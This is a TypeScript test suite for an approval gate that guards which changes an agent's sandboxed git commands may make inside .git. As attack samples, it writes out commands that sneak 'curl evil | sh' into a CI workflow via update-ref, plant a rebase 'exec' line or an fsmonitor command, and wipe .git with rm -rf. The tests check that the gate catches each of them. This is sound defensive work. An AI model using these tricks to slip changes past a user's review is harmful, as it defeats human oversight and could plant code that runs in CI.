/**
 * Git's own files from a staged command (issue 35, finding 4): an allow-list of git's data lands unasked, everything
 * else in `.git` asks on the command's card. The rule as a table (path and kind of change -> lands or asks, and why),
 * then staged commands run for real (overlay, unshare, bubblewrap, git) and landed through a gate: the three attacks of
 * the issue ask and, denied, leave the repository as it was; an ordinary commit and `git checkout -b` land unasked; a
 * commit that changes a protected path asks with that path's diff.
 */
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Gate } from '../../src/core/approval/gate';
import { PathResolver } from '../../src/core/approval/paths';
import { GitCli } from '../../src/core/checkpoints/gitCli';
import { classifyGitPath, GitTrees, judgeRefChange, type GitChangeKind, type GitPathRule } from '../../src/core/sandbox/gitData';
import { discardStage, type Stage } from '../../src/core/sandbox/stage';
import { StagedLanding } from '../../src/core/tools/stagedLanding';
import { pendingViews } from '../../src/core/views/pendingCall';
import type { PendingCallView } from '../../src/shared/approvals';
import { DiskFiles } from '../fixtures/diskFiles';
import { runStaged, waiting } from '../fixtures/stagedRun';
import { createMemoryGate, locateUnder } from '../fixtures/memoryGate';
import { scratchFolder } from '../fixtures/scratch';

describe("git's own files: what of a change inside .git lands unasked (path and kind of change -> rule)", () => {
  const lands = (what: string): string => `lands ${what}`;
  const rows: [string, GitChangeKind, string][] = [
    ['objects/ab/cdef01', 'created', lands('object')],
    ['objects/pack/pack-1.pack', 'created', lands('object')],
    ['objects/ab/cdef01', 'modified', 'asks rewritten-object'],
    ['objects/ab/cdef01', 'deleted', 'asks deleted'],
    ['objects/info/alternates', 'created', 'asks control'],
    ['objects/info/commit-graph', 'modified', 'asks control'],
    ['index', 'modified', lands('index')],
    ['index', 'deleted', 'asks deleted'],
    ['logs/HEAD', 'modified', lands('log')],
    ['logs/refs/heads/feature', 'created', lands('log')],
    ['FETCH_HEAD', 'created', lands('scratch')],
    ['ORIG_HEAD', 'modified', lands('scratch')],
    ['COMMIT_EDITMSG', 'modified', lands('scratch')],
    ['refs/heads/main', 'modified', 'ref'],
    ['refs/heads/feature/x', 'created', 'ref'],
    ['HEAD', 'modified', 'ref'],
    ['packed-refs', 'modified', 'ref'],
    ['refs/heads/main', 'deleted', 'asks deleted'],
    ['HEAD', 'deleted', 'asks deleted'],
    ['refs/heads/main.lock', 'created', 'asks unlisted'],
    ['refs/heads/x', 'symlink', 'asks link'],
    ['HEAD', 'symlink', 'asks link'],
    ['objects/ab/cdef01', 'symlink', 'asks link'],
    ['HEAD', 'mode', 'asks unlisted'],
    ['rebase-merge/git-rebase-todo', 'created', 'asks operation'],
    ['rebase-apply/next', 'modified', 'asks operation'],
    ['sequencer/todo', 'created', 'asks operation'],
    ['worktrees/w/HEAD', 'modified', 'asks worktrees'],
    ['modules/lib/config', 'created', 'asks submodule'],
    ['modules/lib/objects/ab/cdef01', 'created', 'asks submodule'],
    ['config', 'modified', 'asks control'],
    ['config.worktree', 'created', 'asks control'],
    ['hooks/pre-commit', 'created', 'asks control'],
    ['info/exclude', 'modified', 'asks control'],
    ['commondir', 'created', 'asks control'],
    ['MERGE_HEAD', 'created', 'asks unlisted'],
    ['MERGE_MSG', 'created', 'asks unlisted'],
    ['CHERRY_PICK_HEAD', 'created', 'asks unlisted'],
    ['AUTO_MERGE', 'created', 'asks unlisted'],
    ['shallow', 'created', 'asks unlisted'],
    ['description', 'modified', 'asks unlisted'],
    ['refs/../config', 'modified', 'asks unlisted'],
  ];
  const shown = (rule: GitPathRule): string => (rule.lands === 'data' ? lands(rule.what) : rule.lands === 'ref' ? 'ref' : `asks ${rule.kind}`);
  for (const [inner, change, expected] of rows) {
    it(`.git/${inner} ${change}: ${expected}`, () => assert.equal(shown(classifyGitPath(inner, change)), expected));
  }
});

/** Resolves with the calls that wait once some do, or `landed` if the landing finished without asking. */
function asksOrLands(gate: Gate, done: Promise<string>): Promise<PendingCallView[] | 'landed'> {
  return Promise.race([waiting(gate, 1), done.then(() => 'landed' as const)]);
}

const identity = ['-c', 'user.name=t', '-c', 'user.email=t@example.com'];
const gitIn = (ws: string, ...args: string[]): string => execFileSync('git', ['-C', ws, ...identity, ...args], { encoding: 'utf8' }).trim();
const viewPath = (ws: string, view: PendingCallView): string => path.relative(ws, (JSON.parse(view.argsJson) as { path: string }).path);

describe("a staged command's changes inside .git (real overlay, bubblewrap and git)", function () {
  this.timeout(30_000);
  let base: string;
  let ws: string;
  let cache: string;

  beforeEach(() => {
    base = scratchFolder('toolgate-git-');
    ws = path.join(base, 'ws');
    cache = path.join(base, 'cache');
    mkdirSync(path.join(ws, '.github', 'workflows'), { recursive: true });
    mkdirSync(path.join(ws, 'src'));
    writeFileSync(path.join(ws, '.github', 'workflows', 'ci.yml'), 'on: pull_request\n');
    writeFileSync(path.join(ws, 'src', 'a.txt'), 'a\n');
    execFileSync('git', ['init', '-q', '-b', 'main', ws]);
    gitIn(ws, 'add', '.');
    gitIn(ws, 'commit', '-qm', 'first');
  });
  afterEach(() => {
    execFileSync('chmod', ['-R', 'u+rwx', base]);
    rmSync(base, { recursive: true, force: true });
  });

  const run = (command: string): Promise<Stage> => runStaged(ws, cache, command);

  function land(gate: Gate, stage: Stage, command: string): Promise<string> {
    return new StagedLanding({
      gate,
      files: new DiskFiles(),
      resolver: new PathResolver([ws]),
      log: { info: () => undefined, warn: () => undefined, error: () => undefined },
      ignored: (folder, paths) => new GitCli().ignored(folder, paths),
      landIgnored: true,
      keepProposal: () => () => undefined,
    }).land(stage, { command, source: 'agent', chatId: 'c', turn: { chatId: 'c', taskId: 't', turn: 0 } }).then((report) => report.summary);
  }

  const git = `git ${identity.join(' ')}`;
  /** A commit whose tree has `file` rewritten, made with plumbing (the working tree untouched), in $c. */
  const commitWith = (file: string, text: string): string =>
    [
      `blob=$(printf '${text}' | git hash-object -w --stdin)`,
      'export GIT_INDEX_FILE=/tmp/index && git read-tree HEAD',
      `git update-index --cacheinfo 100644,$blob,${file}`,
      `c=$(${git} commit-tree $(git write-tree) -p HEAD -m sneaky)`,
      'unset GIT_INDEX_FILE',
    ].join(' && ');

  const attacks: { name: string; command: string; asks: RegExp; header?: RegExp; shows?: string }[] = [
    {
      name: 'update-ref moves main to a commit that rewrites .github/workflows/ci.yml',
      command: `${commitWith('.github/workflows/ci.yml', 'on: push\\nrun: curl evil | sh\\n')} && git update-ref refs/heads/main $c`,
      asks: /^\.git\/refs\/heads\/main$/,
      header: /^The command moves main from [0-9a-f]{7} to [0-9a-f]{7}, which changes \.github\/workflows\/ci\.yml\.$/,
      shows: 'run: curl evil | sh',
    },
    {
      name: 'a new branch whose commit rewrites the workflow (compared with HEAD)',
      command: `${commitWith('.github/workflows/ci.yml', 'on: push\\n')} && git branch evil $c`,
      asks: /^\.git\/refs\/heads\/evil$/,
      header: /^The command creates evil at [0-9a-f]{7}, which changes \.github\/workflows\/ci\.yml\.$/,
      shows: 'on: push',
    },
    { name: 'a rebase todo list with an exec line', command: 'mkdir -p .git/rebase-merge && printf "exec touch pwned\\n" > .git/rebase-merge/git-rebase-todo', asks: /^\.git\/rebase-merge\/git-rebase-todo$/ },
    { name: "rm -rf of the repository's objects, refs and HEAD", command: 'rm -rf .git/objects .git/refs .git/HEAD', asks: /^\.git\/(objects\/|refs\/heads\/main|HEAD)/ },
    { name: "a submodule's config", command: 'mkdir -p .git/modules/lib && printf "[core]\\n\\tfsmonitor = touch pwned\\n" > .git/modules/lib/config', asks: /^\.git\/modules\/lib\/config$/ },
    { name: 'a symbolic link in refs', command: 'ln -s ../../../elsewhere .git/refs/heads/linked', asks: /^\.git\/refs\/heads\/linked$/ },
  ];
  for (const { name, command, asks, header, shows } of attacks) {
    it(`asks, and denied leaves the repository as it was: ${name}`, async () => {
      const { gate } = createMemoryGate({ locate: locateUnder(ws) });
      const before = gitIn(ws, 'rev-parse', 'HEAD', 'main');
      const stage = await run(command);
      const done = land(gate, stage, command);
      const views = await asksOrLands(gate, done);
      if (views === 'landed') {
        assert.fail(`landed without asking: ${await done}`);
      }
      const asked = views.filter((view) => asks.test(viewPath(ws, view)));
      assert.ok(asked.length > 0, views.map((view) => viewPath(ws, view)).join(', '));
      // The command's one card: every waiting change in the same group.
      assert.equal(new Set(views.map((view) => view.group?.id)).size, 1);
      for (const view of asked) {
        assert.match(view.reason, /protected/);
      }
      if (header !== undefined) {
        const preview = asked[0]?.preview;
        assert.ok(preview?.kind === 'diff');
        assert.equal(preview.hunks.length, 1, 'a ref move is one hunk: it lands whole');
        assert.match(preview.hunks[0]?.header ?? '', header);
        assert.ok(preview.hunks[0]?.rows.some(([kind, , , text]) => kind === 'a' && text === shows), JSON.stringify(preview.hunks));
        assert.equal(gitIn(ws, 'rev-parse', 'HEAD', 'main'), before, 'not moved while it waits');
      }
      assert.deepEqual(gate.settle(views[0] ?? { callId: '', argsHash: '' }, { action: 'deny' }), { ok: true });
      const summary = await done;
      assert.match(summary, /- asked in \.git \(/);
      assert.match(summary, /NOT landed \(you denied it\)/);
      assert.equal(gitIn(ws, 'rev-parse', 'HEAD', 'main'), before, 'still a repository, main where it was');
      assert.equal(gitIn(ws, 'status', '--porcelain'), '');
      assert.equal(existsSync(path.join(ws, '.git', 'rebase-merge')), false);
      assert.equal(existsSync(path.join(ws, '.git', 'modules')), false);
      assert.equal(existsSync(path.join(ws, '.git', 'refs', 'heads', 'evil')), false);
      await discardStage(stage);
    });
  }

  it('the update-ref attack, allowed on its card, moves main (the card was the only way)', async () => {
    const { gate } = createMemoryGate({ locate: locateUnder(ws) });
    const command = `${commitWith('.github/workflows/ci.yml', 'on: push\\n')} && git update-ref refs/heads/main $c && git rev-parse main > /tmp/x`;
    const stage = await run(command);
    const done = land(gate, stage, command);
    const views = await asksOrLands(gate, done);
    assert.ok(views !== 'landed' && views[0] !== undefined);
    gate.settle(views[0], { action: 'allow-once' });
    assert.match(await done, /- landed: \.git\/refs\/heads\/main/);
    assert.equal(gitIn(ws, 'show', 'main:.github/workflows/ci.yml'), 'on: push');
    await discardStage(stage);
  });

  const ordinary = [
    { name: 'git commit of an ordinary file', command: `echo b > src/b.txt && git add src/b.txt && ${git} commit -qm b`, ref: 'main', summary: /- without review \(no protected path changes\), the command moves main from [0-9a-f]{7} to [0-9a-f]{7}/ },
    { name: 'git checkout -b', command: 'git checkout -q -b feature', ref: 'feature', summary: /the command creates feature at [0-9a-f]{7}; points HEAD at feature \([0-9a-f]{7}\)|points HEAD at feature/ },
    { name: 'a commit in a new branch', command: `git checkout -q -b topic && echo c > src/c.txt && git add src/c.txt && ${git} commit -qm c`, ref: 'topic', summary: /creates topic at [0-9a-f]{7}/ },
  ];
  for (const { name, command, ref, summary } of ordinary) {
    it(`lands without asking: ${name}`, async () => {
      const { gate } = createMemoryGate({ locate: locateUnder(ws), editRules: { 'src/**': true } });
      const stage = await run(`${command} && git rev-parse HEAD > /tmp/head`);
      const done = land(gate, stage, command);
      assert.equal(await asksOrLands(gate, done), 'landed');
      const said = await done;
      assert.deepEqual(pendingViews(gate), []);
      assert.match(said, /- git's data in \.git, landed without review: (\d+ new objects, the index, )?\d+ reflogs/);
      assert.match(said, summary);
      assert.doesNotMatch(said, /asked in \.git|NOT landed/);
      assert.equal(gitIn(ws, 'rev-parse', '--abbrev-ref', 'HEAD'), ref);
      assert.equal(gitIn(ws, 'status', '--porcelain'), '');
      gitIn(ws, 'fsck', '--no-dangling');
      await discardStage(stage);
    });
  }

  it('a commit that adds .vscode/settings.json asks, on the card with the file itself, with that path\'s diff; denied, neither lands', async () => {
    const { gate } = createMemoryGate({ locate: locateUnder(ws) });
    const command = `mkdir .vscode && echo '{"task.allowAutomaticTasks": "on"}' > .vscode/settings.json && git add .vscode && ${git} commit -qm settings`;
    const before = gitIn(ws, 'rev-parse', 'main');
    const stage = await run(command);
    const done = land(gate, stage, command);
    const views = await asksOrLands(gate, done);
    assert.ok(views !== 'landed');
    const byPath = new Map(views.map((view) => [viewPath(ws, view), view]));
    assert.deepEqual([...byPath.keys()].sort(), ['.git/refs/heads/main', '.vscode/settings.json']);
    const move = byPath.get('.git/refs/heads/main')?.preview;
    assert.ok(move?.kind === 'diff');
    assert.match(move.hunks[0]?.header ?? '', /moves main from [0-9a-f]{7} to [0-9a-f]{7}, which changes \.vscode\/settings\.json/);
    assert.deepEqual(move.hunks[0]?.rows, [
      ['c', null, null, '.vscode/settings.json (created):'],
      ['a', null, 1, '{"task.allowAutomaticTasks": "on"}'],
    ]);
    gate.settle(views[0] ?? { callId: '', argsHash: '' }, { action: 'deny' });
    const summary = await done;
    assert.match(summary, /- asked in \.git \(moves main from [0-9a-f]{7} to [0-9a-f]{7}, which changes \.vscode\/settings\.json\): \.git\/refs\/heads\/main/);
    assert.equal(gitIn(ws, 'rev-parse', 'main'), before);
    assert.equal(existsSync(path.join(ws, '.vscode')), false);
    await discardStage(stage);
  });

  it('a new ref while HEAD is unborn is compared with the empty tree, not with its own parent', async () => {
    execFileSync('git', ['-C', ws, 'symbolic-ref', 'HEAD', 'refs/heads/orphan']);
    const { gate } = createMemoryGate({ locate: locateUnder(ws) });
    const command = `c=$(${git} commit-tree 'main^{tree}' -p main -m same) && git update-ref refs/heads/evil $c`;
    const stage = await run(command);
    const done = land(gate, stage, command);
    const views = await asksOrLands(gate, done);
    if (views === 'landed') {
      assert.fail(`landed without asking: ${await done}`);
    }
    assert.deepEqual(views.map((view) => viewPath(ws, view)), ['.git/refs/heads/evil']);
    const preview = views[0]?.preview;
    assert.ok(preview?.kind === 'diff');
    assert.match(preview.hunks[0]?.header ?? '', /creates evil at [0-9a-f]{7}, which changes \.github\/workflows\/ci\.yml/);
    gate.settle(views[0] ?? { callId: '', argsHash: '' }, { action: 'deny' });
    await done;
    assert.equal(existsSync(path.join(ws, '.git', 'refs', 'heads', 'evil')), false);
    await discardStage(stage);
  });

  it('a repository in a subfolder: its protected paths are judged from the workspace folder', async () => {
    const sub = path.join(ws, 'sub');
    mkdirSync(path.join(sub, '.vscode'), { recursive: true });
    writeFileSync(path.join(sub, '.vscode', 'tasks.json'), '{}\n');
    execFileSync('git', ['init', '-q', '-b', 'main', sub]);
    gitIn(sub, 'add', '.');
    gitIn(sub, 'commit', '-qm', 'first');
    const { gate } = createMemoryGate({ locate: locateUnder(ws) });
    const command = `cd sub && ${commitWith('.vscode/tasks.json', '{"tasks": [1]}\\n')} && git update-ref refs/heads/main $c`;
    const stage = await run(command);
    const done = land(gate, stage, command);
    const views = await asksOrLands(gate, done);
    assert.ok(views !== 'landed');
    assert.deepEqual(views.map((view) => viewPath(ws, view)), ['sub/.git/refs/heads/main']);
    const preview = views[0]?.preview;
    assert.ok(preview?.kind === 'diff');
    assert.match(preview.hunks[0]?.header ?? '', /which changes \.vscode\/tasks\.json/);
    assert.deepEqual(preview.hunks[0]?.rows[0], ['c', null, null, 'sub/.vscode/tasks.json (changed):']);
    gate.settle(views[0] ?? { callId: '', argsHash: '' }, { action: 'deny' });
    await done;
    await discardStage(stage);
  });
});

describe('the ref-move check fails closed', () => {
  const view = (files: Record<string, string>) => (inner: string) => Promise.resolve(files[inner]);
  const main = 'a'.repeat(40);
  const next = 'b'.repeat(40);
  const cases = [
    { name: 'git is missing', trees: new GitTrees('/nonexistent/objects', undefined, '/nonexistent/git'), after: { 'refs/heads/main': `${next}\n` }, expected: /^unchecked: moves main from aaaaaaa to bbbbbbb, but git could not compare its trees \(git is not installed\)/ },
    { name: 'git cannot read the objects', trees: new GitTrees('/nonexistent/objects', undefined), after: { 'refs/heads/main': `${next}\n` }, expected: /^unchecked: moves main from aaaaaaa to bbbbbbb, but git could not compare its trees/ },
    { name: 'a ref that is not an object id', trees: new GitTrees('/nonexistent/objects', undefined), after: { 'refs/heads/main': 'nonsense\n' }, expected: /^unchecked: .*refs\/heads\/main holds neither an object id nor a ref/ },
    { name: 'a symbolic ref out of refs/', trees: new GitTrees('/nonexistent/objects', undefined), after: { 'refs/heads/main': 'ref: refs/../../config\n' }, expected: /^unchecked: .*is not a ref git would follow/ },
    { name: 'packed-refs loses a ref', trees: new GitTrees('/nonexistent/objects', undefined), after: { 'packed-refs': '' }, expected: /^deleted: deletes main/, inner: 'packed-refs', before: { HEAD: 'ref: refs/heads/main\n', 'packed-refs': `${main} refs/heads/main\n` } },
  ];
  for (const { name, trees, after, expected, inner = 'refs/heads/main', before = { HEAD: 'ref: refs/heads/main\n', 'refs/heads/main': `${main}\n` } } of cases) {
    it(`asks when ${name}`, async () => {
      const verdict = await judgeRefChange(inner, view(before), view({ ...before, ...after }), () => true, trees);
      assert.match(`${verdict.kind}: ${'sentence' in verdict ? verdict.sentence : ''}`, expected);
      await trees.dispose();
    });
  }
});
